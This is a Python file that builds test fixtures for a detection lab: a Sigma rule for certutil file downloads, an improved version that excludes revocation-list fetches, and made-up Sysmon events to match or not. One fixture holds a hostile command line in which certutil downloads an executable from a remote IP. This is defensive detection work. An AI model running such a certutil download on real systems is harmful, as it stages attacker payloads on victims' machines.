"""The files of the story `lab`: a rule, its better text, events that it must match, and some that it must not. No event is real."""

from __future__ import annotations

import json
from typing import Any

RULE = """title: Download By Certutil
id: 5d6a2f0e-7a54-4c1b-9b5e-3f2b7f0f6a01
status: experimental
description: certutil fetches a file; it is a tool for certificates, and attackers use it because it is there already
author: Ada Lund (CERT of the port)
date: 2026-11-02
logsource:
    category: process_creation
    product: windows
detection:
    selection_image:
        - Image|endswith: '\\certutil.exe'
        - OriginalFileName: 'CertUtil.exe'
    selection_flags:
        CommandLine|contains:
            - 'urlcache'
            - 'verifyctl'
    condition: all of selection_*
falsepositives:
    - Updates of revocation lists
level: medium
tags:
    - attack.command-and-control
    - attack.t1105
"""
BETTER = RULE.replace(
    "    condition: all of selection_*\n",
    "    filter_revocation:\n        CommandLine|endswith: '.crl'\n    condition: all of selection_* and not filter_revocation\n",
).replace("author: Ada Lund (CERT of the port)", "author: Ada Lund (CERT of the port), Per Dahl (grid)")


def event(image: str, original: str, command: str, computer: str) -> dict[str, Any]:
    """An event of Sysmon as JSON has it."""
    return {
        "Event": {
            "System": {
                "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
                "EventID": 1,
                "TimeCreated": {"#attributes": {"SystemTime": "2026-11-02T08:14:07.120Z"}},
                "Channel": "Microsoft-Windows-Sysmon/Operational",
                "Computer": computer,
            },
            "EventData": {
                "Image": image,
                "OriginalFileName": original,
                "CommandLine": command,
                "User": "PORT\\svc",
            },
        }
    }


CERTUTIL = "C:\\Windows\\System32\\certutil.exe"
FILES = {
    "certutil.yml": RULE,
    "better.yml": BETTER,
    "attack.json": json.dumps(
        event(
            CERTUTIL,
            "CertUtil.exe",
            "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe a.exe",
            "crane-7.port.example",
        ),
        indent=1,
    )
    + "\n",
    "quiet.json": json.dumps(
        event(CERTUTIL, "CertUtil.exe", "certutil.exe -verify office.cer", "desk-2.port.example"), indent=1
    )
    + "\n",
    "own-log.jsonl": "".join(
        json.dumps(event(CERTUTIL, "CertUtil.exe", command, f"relay-{number}.grid.example")) + "\n"
        for number, command in enumerate(
            (
                "certutil.exe -urlcache http://pki.grid.example/ca.crl",
                "certutil.exe -store my",
                "certutil.exe -urlcache http://pki.grid.example/issuing.crl",
            )
        )
    ),
}
